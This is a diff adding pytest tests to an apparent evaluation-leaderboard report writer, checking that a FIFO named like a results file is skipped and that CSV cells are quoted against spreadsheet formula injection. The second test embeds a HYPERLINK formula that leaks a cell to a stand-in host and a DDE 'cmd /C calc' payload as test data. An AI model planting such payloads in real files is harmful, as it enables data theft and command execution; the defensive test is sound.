@@ -173,6 +173,28 @@ def test_tables_show_intervals_paired_tests_speed_memory_and_energy(outputs, tmp
     assert len(rows) == 5 and {r["task"] for r in rows} == {"squad_mini", "cnndm_mini"}
 
 
+def test_a_fifo_named_like_results_is_left_out_not_waited_on(tmp_path):
+    import os
+
+    results_file(tmp_path / "baseline", "baseline", {"squad_mini": ([0, 1] * 5, 50, 5.0)})
+    os.mkfifo(tmp_path / "baseline" / "results_2026-01-01T00-00-00.json")  # opening it to read blocks for ever
+    _, problems = write_report([tmp_path], tmp_path / "board")
+    assert any("results_2026-01-01T00-00-00.json: not a regular file; left out" in p for p in problems)
+    assert (tmp_path / "board" / "leaderboard.md").is_file()
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
+    results_file(tmp_path / "baseline", "baseline", {"squad_mini": ([0, 1] * 5, 50, 5.0)}, pretrained=formula)
+    results_file(tmp_path / "lz", "lz", {"squad_mini": ([1, 1] * 5, 50, 5.0)}, pretrained="@SUM(1+1)*cmd|' /C calc'!A0")
+    write_report([tmp_path], tmp_path / "board")
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "board" / "leaderboard.csv").read_text())))
+    cells = [value for row in rows for value in row.values() if value]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells) and any(cell.startswith("'@SUM") for cell in cells)
+    assert any(cell.startswith("-0.") or cell.startswith("0.") for cell in cells)  # numbers stay numbers
+
+
 def test_with_five_documents_no_p_value_is_below_what_five_pairs_allow(tmp_path):
     """Every document better by the same margin, 0/1 and continuous: exact paired tests cannot go below 2/2^5."""
     results_file(tmp_path / "baseline", "baseline", {"squad_mini": ([0] * 5, 50, 5.0)}, f1=[0.1] * 5)
